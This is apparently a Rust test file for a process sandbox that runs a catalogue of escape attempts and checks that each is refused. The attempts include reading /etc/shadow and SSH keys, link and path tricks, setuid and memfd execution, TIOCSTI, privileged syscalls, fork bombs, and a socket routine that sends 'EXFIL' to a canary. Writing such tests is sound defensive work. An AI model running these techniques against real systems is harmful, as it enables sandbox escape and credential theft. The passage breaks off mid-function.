//! The rows of the catalogue of attacks, as programs that attempt them. Each prints the result of every attempt, and the
//! complete output is compared: an attempt that was never made does not count as prevented.

#![expect(
    clippy::needless_raw_string_hashes,
    reason = "one of the programs needs them, and all have the same form"
)]

use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::process::Command;

use prowess_sandbox::{ExitReason, FileAccess, FileGrant, Network, SandboxError, Spec};

use crate::world::{World, executable, ran};

/// The rows of the catalogue, the attempt and its expected output.
struct Case {
    rows: &'static str,
    spec: fn(&World) -> Spec,
    expected: &'static str,
}

fn nothing(world: &World, payload: &str) -> Spec {
    world.python(payload)
}

pub(crate) fn files(world: &World, payload: &str) -> Spec {
    let mut spec = world.python(payload);
    spec.files = vec![world.grant("ws", FileAccess::Write), world.grant("ro", FileAccess::Read)];
    spec
}

fn network(world: &World, payload: &str) -> Spec {
    let mut spec = files(world, payload);
    spec.network = Network::Listeners(vec![3128]);
    spec
}

const CASES: &[Case] = &[
    Case {
        rows: "sandbox-A01 sandbox-A13",
        spec: |world| {
            nothing(
                world,
                r##"
for path in ("/etc/shadow", "/root/.ssh/id_rsa", SEC + "/k", "/etc/machine-id", "/home", "/root"):
    if path != "/home":
        attempt(path.replace(SEC, "SEC"), lambda: os.stat(path))
attempt("home", lambda: os.listdir("/home"))
"##,
            )
        },
        expected: "\
/etc/shadow: ENOENT
/root/.ssh/id_rsa: ENOENT
SEC/k: ENOENT
/etc/machine-id: ENOENT
/root: ENOENT
home: done ['skill']
",
    },
    Case {
        rows: "sandbox-A02 sandbox-A03 sandbox-A04",
        spec: |world| {
            files(
                world,
                r##"
attempt("granted", lambda: read(RO + "/a"))
attempt("up", lambda: read(RO + "/../sec/k"))
attempt("around", lambda: read("/" + RO + "/./../../" + SEC.split("/")[-2] + "/sec/k"))
os.symlink(SEC + "/k", WS + "/l")
attempt("link", lambda: read(WS + "/l"))
os.symlink(SEC, WS + "/d")
attempt("link to folder", lambda: write(WS + "/d/new"))
attempt("granted write", lambda: write(WS + "/new"))
"##,
            )
        },
        expected: "\
granted: done 'data'
up: ENOENT
around: ENOENT
link: ENOENT
link to folder: ENOENT
granted write: done
",
    },
    Case {
        rows: "sandbox-A07 sandbox-A09 sandbox-A17 sandbox-A18",
        spec: |world| {
            files(
                world,
                r##"
import mmap
attempt("link from outside", lambda: os.link(SEC + "/k", WS + "/h"))
attempt("link from read-only", lambda: os.link(RO + "/a", WS + "/h2"))
attempt("move out of read-only", lambda: os.rename(RO + "/a", WS + "/a"))
attempt("move the folder", lambda: os.rename(RO, WS + "/r"))
attempt("truncate", lambda: os.truncate(RO + "/a", 0))
attempt("open for writing", lambda: os.open(RO + "/a", os.O_RDWR))
attempt("open and truncate", lambda: os.open(RO + "/a", os.O_WRONLY | os.O_TRUNC))
attempt("delete", lambda: os.unlink(RO + "/a"))
attempt("map for writing", lambda: mmap.mmap(os.open(RO + "/a", os.O_RDONLY), 4, mmap.MAP_SHARED, mmap.PROT_WRITE) and None)
"##,
            )
        },
        expected: "\
link from outside: ENOENT
link from read-only: EXDEV
move out of read-only: EXDEV
move the folder: EXDEV
truncate: EROFS
open for writing: EROFS
open and truncate: EROFS
delete: EROFS
map for writing: EACCES
",
    },
    Case {
        rows: "sandbox-A12 sandbox-A25",
        spec: |world| {
            files(
                world,
                r##"
K = SEC + "/k"
attempt("chmod", lambda: os.chmod(K, 0o777))
attempt("chown", lambda: os.chown(K, 1000, 1000))
attempt("utime", lambda: os.utime(K))
attempt("setxattr", lambda: os.setxattr(K, "user.x", b"y"))
attempt("fchmodat2", lambda: call(452, -100, K.encode(), 0o777, 0))
attempt("chmod read-only", lambda: os.chmod(RO + "/a", 0o777))
attempt("trusted attribute", lambda: os.setxattr(WS + "/old", "trusted.x", b"y"))
attempt("overlay attribute", lambda: os.setxattr(WS + "/old", "user.overlay.redirect", b"/etc"))
import struct
# Version 2; user: rw, user 12345: rw, group: r, mask: rw, others: none.
acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in (
    (1, 6, -1), (2, 6, 12345), (4, 4, -1), (16, 6, -1), (32, 0, -1)))
for name in ("system.posix_acl_access", "system.posix_acl_default"):
    attempt(name, lambda: os.setxattr(WS + ("" if name.endswith("default") else "/old"), name, acl))
attempt("by descriptor", lambda: os.setxattr(os.open(WS + "/old", os.O_RDONLY), "system.posix_acl_access", acl))
attempt("of a link", lambda: os.setxattr(WS + "/old", "system.posix_acl_access", acl, follow_symlinks=False))
attempt("newer call", lambda: call(463, -100, (WS + "/old").encode(), 0, b"system.posix_acl_access", 0, 0))
attempt("removal", lambda: os.removexattr(WS + "/old", "system.posix_acl_access"))
import shutil
attempt("a copy with attributes", lambda: shutil.copy2(RO + "/a", WS + "/copy") and None)
"##,
            )
        },
        expected: "\
chmod: ENOENT
chown: ENOENT
utime: ENOENT
setxattr: ENOTSUP
fchmodat2: ENOENT
chmod read-only: EROFS
trusted attribute: ENOTSUP
overlay attribute: ENOTSUP
system.posix_acl_access: ENOTSUP
system.posix_acl_default: ENOTSUP
by descriptor: ENOTSUP
of a link: ENOTSUP
newer call: ENOTSUP
removal: ENOTSUP
a copy with attributes: done
",
    },
    Case {
        rows: "sandbox-A19 sandbox-A20 sandbox-A21 sandbox-A22 sandbox-D04 sandbox-D18",
        spec: |world| {
            nothing(
                world,
                r##"
attempt("handle", lambda: call(303, -100, b"/etc", 0, 0, 0))
attempt("open by handle", lambda: call(304, -100, 0, 0))
for path in ("/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/1/environ", "/proc/1/mem", "/proc/1/exe"):
    attempt(path, lambda: os.open(path, os.O_RDONLY))
attempt("descriptors", lambda: sorted(int(name) for name in os.listdir("/proc/self/fd"))[:3])
attempt("more descriptors", lambda: [fd for fd in range(3, 300) if os.path.exists(f"/proc/self/fd/{fd}")])
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory",
             "/proc/self/oom_score_adj", "/proc/self/uid_map", "/proc/kallsyms", "/proc/keys", "/proc/kcore",
             "/sys/kernel", "/sys/fs/cgroup", "/dev/mem", "/dev/tty", "/dev/kmsg"):
    attempt(path, lambda: os.open(path, os.O_WRONLY))
try:
    os.open("/proc/self/exe", os.O_WRONLY)
except OSError as error:
    # Which wall comes first depends on who owns the file.
    print("own image:", errno.errorcode[error.errno] in ("EACCES", "ETXTBSY", "EROFS"))
"##,
            )
        },
        expected: "\
handle: EPERM
open by handle: EPERM
/proc/1/root/etc/shadow: ENOENT
/proc/1/cwd: ENOENT
/proc/1/environ: ENOENT
/proc/1/mem: ENOENT
/proc/1/exe: ENOENT
descriptors: done [0, 1, 2]
more descriptors: done []
/proc/sys/kernel/core_pattern: ENOENT
/proc/sysrq-trigger: ENOENT
/proc/sys/vm/overcommit_memory: ENOENT
/proc/self/oom_score_adj: EACCES
/proc/self/uid_map: EACCES
/proc/kallsyms: ENOENT
/proc/keys: ENOENT
/proc/kcore: ENOENT
/sys/kernel: ENOENT
/sys/fs/cgroup: ENOENT
/dev/mem: ENOENT
/dev/tty: ENOENT
/dev/kmsg: ENOENT
own image: True
",
    },
    Case {
        rows: "sandbox-A23 sandbox-A24",
        spec: |world| {
            files(
                world,
                r##"
import shutil
attempt("device", lambda: os.mknod(WS + "/m", 0o600 | 0o020000, os.makedev(1, 1)))
attempt("pipe", lambda: os.mkfifo(WS + "/f"))
shutil.copy("/usr/bin/python3", WS + "/s")
attempt("set user", lambda: os.chmod(WS + "/s", 0o4755))
attempt("set group", lambda: os.chmod(WS + "/s", 0o2755))
attempt("set user by descriptor", lambda: os.fchmod(os.open(WS + "/s", os.O_RDONLY), 0o4755))
attempt("set user at", lambda: call(268, -100, (WS + "/s").encode(), 0o4755))
attempt("set user at, newer", lambda: call(452, -100, (WS + "/s").encode(), 0o4755, 0))
attempt("create with set user", lambda: os.open(WS + "/t", os.O_CREAT | os.O_WRONLY, 0o4755))
attempt("create with set user, unnamed", lambda: os.open(WS, os.O_TMPFILE | os.O_RDWR, 0o4755))
attempt("newer open", lambda: call(437, -100, (WS + "/u").encode(), 0, 0))
attempt("ordinary mode", lambda: os.chmod(WS + "/s", 0o755))
attempt("execute it", lambda: os.execv(WS + "/s", ["s", "-c", "print('ran')"]))
attempt("su", lambda: os.execv("/usr/bin/su", ["su"]))
attempt("root folder", lambda: write("/new"))
attempt("etc", lambda: write("/etc/passwd"))
"##,
            )
        },
        expected: "\
device: EPERM
pipe: EPERM
set user: EPERM
set group: EPERM
set user by descriptor: EPERM
set user at: EPERM
set user at, newer: EPERM
create with set user: EPERM
create with set user, unnamed: EPERM
newer open: ENOSYS
ordinary mode: done
execute it: EACCES
su: ENOENT
root folder: EROFS
etc: EROFS
",
    },
    Case {
        rows: "sandbox-B01 sandbox-B02 sandbox-B03 sandbox-B04 sandbox-B05 sandbox-B06 sandbox-B09",
        spec: |world| {
            files(
                world,
                r##"
import shutil, subprocess
def run(*words, **more):
    result = subprocess.run(words, capture_output=True, text=True, **more)
    return result.returncode, result.stdout
for path in ("/usr/bin/id", "/bin/sh", "/usr/bin/curl"):
    attempt(path, lambda: os.execv(path, [path]))
LOADER = next(path for path in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1") if os.path.exists(path))
attempt("loader", lambda: run(LOADER, "/usr/bin/id"))
shutil.copy("/usr/bin/python3", "/tmp/x")
shutil.copy("/usr/bin/python3", WS + "/x")
os.chmod(WS + "/x", 0o755)
attempt("copy in /tmp", lambda: os.execv("/tmp/x", ["x"]))
attempt("copy in WS", lambda: os.execv(WS + "/x", ["x"]))
attempt("copy by loader", lambda: run(LOADER, "/tmp/x", "-c", "print('ran')"))
attempt("memory file", lambda: os.memfd_create("m", 0))
attempt("executable memory file", lambda: os.memfd_create("m", 0x10))
def sealed():
    fd = os.memfd_create("m", 8)
    os.write(fd, open("/usr/bin/python3", "rb").read())
    os.execve(fd, ["x"], {})
attempt("sealed memory file", sealed)
def unnamed(folder):
    fd = os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o700)
    os.write(fd, open("/usr/bin/python3", "rb").read())
    os.execv(f"/proc/self/fd/{fd}", ["x"])
attempt("unnamed file", lambda: unnamed("/tmp"))
shutil.copy("/usr/bin/python3", "/dev/shm/x")
os.chmod("/dev/shm/x", 0o755)
attempt("shared memory", lambda: os.execv("/dev/shm/x", ["x"]))
write(WS + "/script", "#!/usr/bin/python3\nprint('ran')\n")
os.chmod(WS + "/script", 0o755)
attempt("script", lambda: os.execv(WS + "/script", ["x"]))
attempt("script by its interpreter", lambda: run("/usr/bin/python3", WS + "/script"))
attempt("PATH", lambda: run("x", env={"PATH": WS}))
"##,
            )
        },
        expected: "\
/usr/bin/id: ENOENT
/bin/sh: ENOENT
/usr/bin/curl: ENOENT
loader: done (127, '')
copy in /tmp: EACCES
copy in WS: EACCES
copy by loader: done (127, '')
memory file: EPERM
executable memory file: EPERM
sealed memory file: EACCES
unnamed file: EACCES
shared memory: EACCES
script: EACCES
script by its interpreter: done (0, 'ran\\n')
PATH: EACCES
",
    },
    Case {
        rows: "sandbox-B10 sandbox-B14",
        spec: |world| {
            files(
                world,
                r##"
import glob, mmap, shutil, subprocess
library = glob.glob("/usr/lib/*-linux-gnu/libm.so.6")[0]
shutil.copy(library, WS + "/x.so")
result = subprocess.run(["/usr/bin/python3", "-c", "print('ran')"], env={"LD_PRELOAD": WS + "/x.so"}, capture_output=True, text=True)
print(result.stdout.strip(), "failed to map segment" in result.stderr)
memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
print("code in memory is possible, and stays inside")
attempt("still", lambda: read(SEC + "/k"))
"##,
            )
        },
        expected: "\
ran True
code in memory is possible, and stays inside
still: ENOENT
",
    },
    Case {
        rows: "sandbox-C01 sandbox-C02 sandbox-C03 sandbox-C05 sandbox-C06 sandbox-C07",
        spec: |world| {
            nothing(
                world,
                r##"
for name, family, kind, protocol in (
    ("TCP", 2, 1, 0), ("UDP", 2, 2, 0), ("IPv6", 10, 1, 0), ("MPTCP", 2, 1, 262), ("unix", 1, 1, 0), ("netlink", 16, 3, 0),
    ("packet", 17, 3, 0), ("alg", 38, 5, 0), ("vsock", 40, 1, 0), ("xdp", 44, 3, 0), ("bluetooth", 31, 3, 0), ("tipc", 30, 1, 0),
    ("smc", 43, 1, 0), ("raw", 2, 3, 1), ("sctp", 2, 1, 132)):
    attempt(name, lambda: socket.socket(family, kind, protocol) and None)
attempt("io_uring", lambda: call(425, 8, 0))
attempt("pair", lambda: len(socket.socketpair()))
"##,
            )
        },
        expected: "\
TCP: EPERM
UDP: EPERM
IPv6: EPERM
MPTCP: EPERM
unix: EPERM
netlink: EPERM
packet: EPERM
alg: EPERM
vsock: EPERM
xdp: EPERM
bluetooth: EPERM
tipc: EPERM
smc: EPERM
raw: EPERM
sctp: EPERM
io_uring: EPERM
pair: done 2
",
    },
    Case {
        rows: "sandbox-C01 sandbox-C02 sandbox-C03 sandbox-C04 sandbox-C05 sandbox-C06 sandbox-C33",
        spec: |world| {
            network(
                world,
                r##"
def connect(host, port, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(5)
    s.connect((host, port))
    return s.send(b"EXFIL")
attempt("our listener", lambda: connect("127.0.0.1", 3128))
attempt("canary", lambda: connect("127.0.0.77", CANARY))
attempt("other host, port of the proxy", lambda: connect("10.0.0.1", 3128))
attempt("public address", lambda: connect("192.0.2.1", 443))
attempt("UDP", lambda: connect("192.0.2.1", 53, socket.SOCK_DGRAM))
attempt("MPTCP", lambda: socket.socket(2, 1, 262) and None)
attempt("unix", lambda: socket.socket(socket.AF_UNIX) and None)
attempt("netlink", lambda: socket.socket(16, 3) and None)
attempt("raw", lambda: socket.socket(2, 3, 1) and None)
def bind(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("127.0.0.1", port))
attempt("bind the proxy's port", lambda: bind(3128))
attempt("bind another", lambda: bind(8080))
attempt("names", lambda: socket.getaddrinfo("example.com", 80) and None)
"##,
            )
        },
        expected: "\
our listener: done 5
canary: EACCES
other host, port of the proxy: ENETUNREACH
public address: EACCES
UDP: ENETUNREACH
MPTCP: EPERM
unix: EPERM
netlink: EPERM
raw: EPERM
bind the proxy's port: EACCES
bind another: EACCES
names: [Errno -2] Name or service not known
",
    },
    Case {
        rows: "sandbox-D01 sandbox-D02 sandbox-D03 sandbox-D05 sandbox-D10 sandbox-D14",
        spec: |world| {
            nothing(
                world,
                r##"
calls = {"unshare user": (272, 0x10000000), "clone user": (56, 0x10000000, 0, 0, 0, 0), "clone mounts": (56, 0x20000 | 17, 0, 0, 0, 0),
 "clone3": (435, 0, 0), "setns": (308, 0, 0), "mount": (165, 0, 0, 0, 0, 0), "umount": (166, b"/tmp", 0), "pivot_root": (155, b".", b"."),
 "chroot": (161, b"/tmp"), "fsopen": (430, b"tmpfs", 0), "open_tree": (428, -100, b"/", 1), "move_mount": (429, 0, b"", 0, b"", 0),
 "mount_setattr": (442, -100, b"/", 0, 0, 0), "ptrace": (101, 16, 1, 0, 0), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
 "process_vm_writev": (311, 1, 0, 0, 0, 0, 0), "pidfd_getfd": (438, 0, 0, 0), "kcmp": (312, 1, 1, 0, 0, 0), "process_madvise": (440, 0, 0, 0, 0, 0),
 "bpf": (321, 0, 0, 0), "perf_event_open": (298, 0, 0, 0, 0, 0), "userfaultfd": (323, 0), "keyctl": (250, 0, 0, 0, 0, 0), "add_key": (248, 0, 0, 0, 0, 0),
 "request_key": (249, 0, 0, 0, 0), "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, 0, 0, 0), "fanotify_init": (300, 0, 0), "quotactl": (179, 0, 0, 0, 0),
 "acct": (163, 0), "swapon": (167, 0, 0), "syslog": (103, 3, 0, 0), "reboot": (169, 0, 0, 0, 0), "sethostname": (170, b"x", 1),
 "settimeofday": (164, 0, 0), "adjtimex": (159, 0), "personality": (135, 0x0040000), "mlockall": (151, 1), "io_uring_enter": (426, 0, 0, 0, 0, 0)}
import platform
assert platform.machine() == "x86_64", "the numbers below are those of x86-64"
wrong = {}
for name, arguments in calls.items():
    try:
        call(*arguments)
        wrong[name] = "done"
    except OSError as error:
        code = errno.errorcode[error.errno]
        if code != ("ENOSYS" if name == "clone3" else "EPERM"):
            wrong[name] = code
print(len(calls), "calls, not refused:", wrong)
attempt("x32", lambda: call(0x40000000 | 39))
"##,
            )
        },
        expected: "39 calls, not refused: {}\nx32: ENOSYS\n",
    },
    Case {
        rows: "sandbox-D07 sandbox-D08 sandbox-D11 sandbox-D12 sandbox-D13 sandbox-D15 sandbox-B16",
        spec: |world| {
            nothing(
                world,
                r##"
import fcntl, mmap
def int80():
    pid = os.fork()
    if pid == 0:
        code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
        memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        ctypes.CFUNCTYPE(ctypes.c_long)(address)()
        os._exit(0)
    return os.WTERMSIG(os.waitpid(pid, 0)[1])
attempt("int 0x80", int80)
attempt("TIOCSTI", lambda: call(16, 0, 0x5412, b"x"))
attempt("TIOCSTI in disguise", lambda: call(16, 0, 0x100005412, b"x"))
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
print({name: status[name].strip() for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")})
print(os.getuid(), os.getgid(), os.getgroups())
attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
attempt("real-time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
attempt("disk priority", lambda: call(251, 1, 0, 1 << 13))
attempt("kill init", lambda: os.kill(1, 9))
attempt("setuid", lambda: os.setuid(0))
attempt("terminal", lambda: os.open("/dev/tty", os.O_RDWR))
print(os.getpid() == os.getsid(0), len([name for name in os.listdir("/proc") if name.isdigit()]))
print(open("/etc/passwd").read(), os.uname().nodename)
"##,
            )
        },
        expected: "\
int 0x80: done 31
TIOCSTI: EPERM
TIOCSTI in disguise: EPERM
{'CapInh': '0000000000000000', 'CapPrm': '0000000000000000', 'CapEff': '0000000000000000', 'CapBnd': '0000000000000000', 'CapAmb': '0000000000000000', 'NoNewPrivs': '1', 'Seccomp': '2'}
1000 1000 []
priority: EACCES
real-time: EPERM
disk priority: EPERM
kill init: EPERM
setuid: EINVAL
terminal: ENOENT
True 1
skill:x:1000:1000::/home/skill:/bin/false
 skill
",
    },
    Case {
        rows: "sandbox-E05 sandbox-E09 sandbox-E14",
        spec: |world| {
            let mut spec = files(
                world,
                r##"
import resource
count = 0
try:
    while count < 500:
        if os.fork() == 0:
            signal.pause()
        count += 1
except OSError as error:
    print("fork:", errno.errorcode[error.errno], count < 20)
def fill(folder):
    with open(folder + "/big", "wb") as file:
        for _ in range(200):
            file.write(b"x" * (1 << 20))
attempt("fill /tmp", lambda: fill("/tmp"))
attempt("fill the home", lambda: fill("/home/skill"))
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
attempt("a large file", lambda: os.truncate(WS + "/old", 1 << 40))
attempt("descriptors", lambda: [os.open("/dev/null", os.O_RDONLY) for _ in range(5000)] and None)
"##,
            );
            spec.limits.processes = 20;
            spec.limits.scratch = 8 << 20;
            spec.limits.file_size = 64 << 20;
            spec
        },
        expected: "\
fork: EAGAIN True
fill /tmp: ENOSPC
fill the home: ENOSPC
a large file: EFBIG
descriptors: EMFILE
",
    },
    Case {
        rows: "sandbox-F01 sandbox-F04 sandbox-F07",
        spec: |world| {
            nothing(
                world,
                r##"
print(dict(os.environ) | {"PATH": "…", "LC_CTYPE": "…"})
print(sorted(os.listdir("/")))
"##,
            )
        },
        expected: "\
{'HOME': '/home/skill', 'PATH': '…', 'LC_CTYPE': '…'}
['.self-test', 'bin', 'dev', 'etc', 'home', 'lib', 'lib64', 'proc', 'sbin', 'tmp', 'usr']
",
    },
];

fn try_all(prepare: fn(&World, &mut Spec)) {
    // A listener outside the sandbox, which must never be reached.
    let tcp = TcpListener::bind("127.0.0.77:0").expect("the address is there");
    let port = tcp.local_addr().expect("it is bound").port();
    let udp = UdpSocket::bind(("127.0.0.77", port)).expect("the address is there");
    tcp.set_nonblocking(true).expect("a socket");
    udp.set_nonblocking(true).expect("a socket");
    let mut failures = Vec::new();
    for case in CASES {
        let mut world = World::new();
        world.canary = port;
        let mut spec = (case.spec)(&world);
        prepare(&world, &mut spec);
        let (ended, output, error) = ran(spec);
        let ended = match ended {
            Ok(ended) => format!("{:?}", ended.exit),
            Err(error) => error.to_string(),
        };
        if output != case.expected || ended != "Exited(0)" {
            failures.push(format!(
                "== {} {ended}\n-- expected\n{}-- got\n{output}{error}",
                case.rows, case.expected
            ));
        }
        assert_eq!(world.read("sec/k").as_deref(), Some("the secret"), "{}", case.rows);
        assert_eq!(world.read("ro/a").as_deref(), Some("data"), "{}", case.rows);
        assert!(tcp.accept().is_err(), "{}: the outside was reached", case.rows);
        assert!(udp.recv(&mut [0; 16]).is_err(), "{}: the outside was reached", case.rows);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn attacks_from_inside_fail() {
    try_all(|_, _| ());
}

#[test]
fn attacks_from_inside_an_overlay_fail() {
    try_all(World::stage_all);
}

#[test]
fn attacks_from_inside_an_overlay_fail_as_an_ordinary_user() {
    repeat_as_nobody("attacks::attacks_from_inside_an_overlay_fail");
}

/// Sandboxes of root are set up differently from those of ordinary users, so both are tested.
#[test]
fn attacks_from_inside_fail_as_an_ordinary_user() {
    repeat_as_nobody("attacks::attacks_from_inside_fail");
}

pub(crate) fn repeat_as_nobody(test: &str) {
    let home = copy_of_tests();
    let copy = home.path().join("tests");
    let output = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&copy)
        .args(["--exact", test, "--nocapture"])
        .env("TMPDIR", "/tmp")
        .output();
    let output = match output {
        Ok(output) => output,
        // Without root, the test itself has already run as an ordinary user.
        Err(error) => panic!("`setpriv` is needed to change the user: {error}"),
    };
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && said.contains("1 passed"),
        "{said}{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// Runs an ignored test as a user in a mount namespace, in which a shell mounts other filesystems first.
pub(crate) fn in_mount_namespace(mount: &str, user: &str, test: &str) {
    in_mount_namespace_until(mount, user, test, "");
}

/// Like [`in_mount_namespace`], with a shell command afterwards: not everything disappears with the namespace.
pub(crate) fn in_mount_namespace_until(mount: &str, user: &str, test: &str, unmount: &str) {
    let home = copy_of_tests();
    let become_user = format!("setpriv --reuid={user} --regid={user} --clear-groups");
    let script = format!(
        "set -e
cd {}
{mount}
status=0
TMPDIR=/tmp {become_user} ./tests --exact {test} --include-ignored --nocapture || status=$?
{unmount}
exit $status",
        home.path().display()
    );
    let output = Command::new("unshare").args(["--mount", "sh", "-c", &script]).output();
    let output = output.expect("`unshare` is needed to mount something");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && said.contains("1 passed"),
        "{user}: {said}{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// A folder with a copy of this program that everyone may execute.
pub(crate) fn copy_of_tests() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt as _;
    let home = tempfile::tempdir().expect("a temporary folder");
    let program = std::env::current_exe().expect("this program");
    fs::copy(program, home.path().join("tests")).expect("a copy");
    fs::set_permissions(home.path(), fs::Permissions::from_mode(0o755)).expect("it is ours");
    home
}

#[test]
fn a_symbolic_link_cannot_be_granted() {
    // Attack sandbox-A05.
    let world = World::new();
    std::os::unix::fs::symlink(world.path("sec"), world.path("output")).expect("a link");
    for name in ["output", "output/k"] {
        let mut spec = world.python("print('ran')");
        spec.files = vec![world.grant(name, FileAccess::Write)];
        let (ended, output, _) = ran(spec);
        assert!(matches!(ended, Err(SandboxError::Grant { .. })), "{ended:?}");
        assert_eq!(output, "");
    }
}

#[test]
fn a_replaced_grant_is_refused() {
    // Attack sandbox-A06: the name of a granted folder is replaced continuously.
    let world = World::new();
    let (plain, link) = (world.path("plain"), world.path("link"));
    let output = world.path("output");
    fs::create_dir(&plain).expect("a folder");
    fs::write(plain.join("mark"), "plain").expect("a file");
    std::os::unix::fs::symlink(world.path("sec"), &link).expect("a link");
    fs::rename(&plain, &output).expect("a move");
    let stop = std::sync::atomic::AtomicBool::new(false);
    let mut seen = [0, 0];
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = fs::rename(&output, &plain).and_then(|()| fs::rename(&link, &output));
                let _ = fs::rename(&output, &link).and_then(|()| fs::rename(&plain, &output));
            }
        });
        for _ in 0..200 {
            let mut spec = Spec::new("/bin/ls");
            spec.arguments = vec![output.clone().into()];
            spec.files = vec![world.grant("output", FileAccess::Read)];
            let (ended, listed, _) = ran(spec);
            assert_ne!(listed, "k\n", "the secret's folder was shown");
            match ended {
                Ok(ended) if ended.exit == ExitReason::Exited(0) => {
                    assert_eq!(listed, "mark\n");
                    seen[0] += 1;
                }
                Ok(_) | Err(_) => seen[1] += 1,
            }
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
    });
    assert!(seen[0] + seen[1] == 200, "{seen:?}");
}

#[test]
fn protected_paths_inside_a_writable_folder_stay_read_only() {
    // Attacks sandbox-A10, sandbox-A11.
    let world = World::new();
    for folder in ["ws/.git/hooks", "ws/vendor/sub/.git/hooks", "ws/.skills/x"] {
        fs::create_dir_all(world.path(folder)).expect("folders");
    }
    fs::write(world.path("ws/.git/config"), "[core]").expect("a file");
    fs::write(world.path("ws/.skills/x/SKILL.md"), "text").expect("a file");
    let mut spec = world.python(
        r##"
attempt("hook", lambda: write(WS + "/.git/hooks/pre-commit"))
attempt("config", lambda: write(WS + "/.git/config"))
attempt("nested hook", lambda: write(WS + "/vendor/sub/.git/hooks/x"))
attempt("skill", lambda: write(WS + "/.skills/x/SKILL.md"))
for name in (".git", ".git/hooks", "vendor", "vendor/sub", "vendor/sub/.git", ".skills", ".skills/x"):
    attempt("move " + name, lambda: os.rename(WS + "/" + name, WS + "/moved"))
attempt("beside", lambda: write(WS + "/.git/index"))
attempt("elsewhere", lambda: write(WS + "/vendor/new"))
"##,
    );
    spec.files = vec![
        world.grant("ws", FileAccess::Write),
        world.grant("ws/.git/hooks", FileAccess::Read),
        world.grant("ws/.git/config", FileAccess::Read),
        world.grant("ws/vendor/sub/.git/hooks", FileAccess::Read),
        world.grant("ws/.skills/x", FileAccess::Execute),
    ];
    let (ended, output, error) = ran(spec);
    assert_eq!(ended.expect("it starts").exit, ExitReason::Exited(0), "{error}");
    assert_eq!(
        output,
        "hook: EROFS\nconfig: EROFS\nnested hook: EROFS\nskill: EROFS\nmove .git: EBUSY\nmove .git/hooks: EXDEV\nmove vendor: EBUSY\nmove vendor/sub: EXDEV\nmove vendor/sub/.git: EXDEV\nmove .skills: EBUSY\nmove .skills/x: EXDEV\nbeside: done\nelsewhere: done\n"
    );
}

#[test]
fn files_created_inside_belong_to_the_caller() {
    use std::os::unix::fs::MetadataExt as _;
    let world = World::new();
    let mut spec =
        world.python("write(WS + '/new'); os.mkdir(WS + '/folder'); print(os.stat(WS).st_uid)");
    spec.files = vec![world.grant("ws", FileAccess::Write)];
    let (_, output, error) = ran(spec);
    assert_eq!(output, "1000\n", "{error}");
    let owner = fs::metadata(world.path("ws")).expect("it is there").uid();
    for name in ["ws/new", "ws/folder"] {
        assert_eq!(fs::metadata(world.path(name)).expect("it was made").uid(), owner, "{name}");
    }
}

#[test]
fn a_missing_granted_path_is_not_created() {
    // Attack sandbox-A26.
    let world = World::new();
    let before = world.tree();
    let mut spec = world.python("attempt('write', lambda: write(WS + '/../new/x'))");
    spec.files =
        vec![world.grant("new", FileAccess::Write), world.grant("none/at/all", FileAccess::Read)];
    let (_, output, error) = ran(spec);
    assert_eq!(output, "write: ENOENT\n", "{error}");
    assert_eq!(world.tree(), before);
}

#[test]
fn special_characters_in_names_have_no_effect() {
    // Attack sandbox-A28.
    let world = World::new();
    for name in ["new\nline", "quote'\"", "$(id)", "-rf", "a b"] {
        fs::create_dir(world.path(name)).expect("a folder");
        fs::write(world.path(name).join("f"), name).expect("a file");
        let mut spec = Spec::new("/bin/cat");
        spec.arguments = vec![world.path(name).join("f").into()];
        spec.files = vec![world.grant(name, FileAccess::Read)];
        let (_, output, error) = ran(spec);
        assert_eq!(output, name, "{error}");
    }
    let mut spec = Spec::new("/bin/echo");
    spec.arguments = vec!["a\0b".into()];
    assert!(matches!(ran(spec).0, Err(SandboxError::Invalid(_))));
    let mut spec = Spec::new("/bin/echo");
    let path = std::path::PathBuf::from(format!("/{}", "x/".repeat(3000)));
    spec.files = vec![FileGrant { path, access: FileAccess::Read, pattern: None, create: false }];
    assert!(matches!(ran(spec).0, Err(SandboxError::Grant { .. })));
}

#[test]
fn names_may_be_invalid_utf8() {
    // Attack sandbox-A28: bytes that are not UTF-8, wherever a name can occur.
    use std::ffi::{OsStr, OsString};
    use std::os::unix::ffi::{OsStrExt as _, OsStringExt as _};
    let odd = |bytes: &[u8]| OsStr::from_bytes(bytes).to_owned();
    let world = World::new();
    let folder = world.path("").join(odd(b"f\xff\xfe"));
